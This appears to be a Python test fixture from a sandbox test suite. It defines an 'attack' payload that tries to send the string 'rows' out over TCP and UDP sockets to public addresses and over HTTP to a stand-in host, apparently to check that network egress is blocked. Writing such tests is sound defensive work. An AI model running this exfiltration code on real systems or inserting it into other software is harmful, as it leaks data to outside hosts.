"""Sends the data out: over HTTP, over DNS, over plain TCP and UDP"""

from tests.attacks.attack import Attack

ATTACK = Attack(
    "harm",
    q2="""
import socket, urllib.request
for family, kind, address in ((socket.AF_INET, socket.SOCK_STREAM, ("1.1.1.1", 53)),
                              (socket.AF_INET, socket.SOCK_DGRAM, ("192.0.2.1", 53)),
                              (socket.AF_INET6, socket.SOCK_STREAM, ("2606:4700:4700::1111", 53))):
    with socket.socket(family, kind) as out:
        out.settimeout(2)
        try:
            out.connect(address)
            print("sent", out.send(b"rows"))
        except OSError as fault:
            print(fault)
try:
    print(urllib.request.urlopen("http://elsewhere.example/?rows", timeout=2).status)
except OSError as fault:
    print(fault)
""",
)
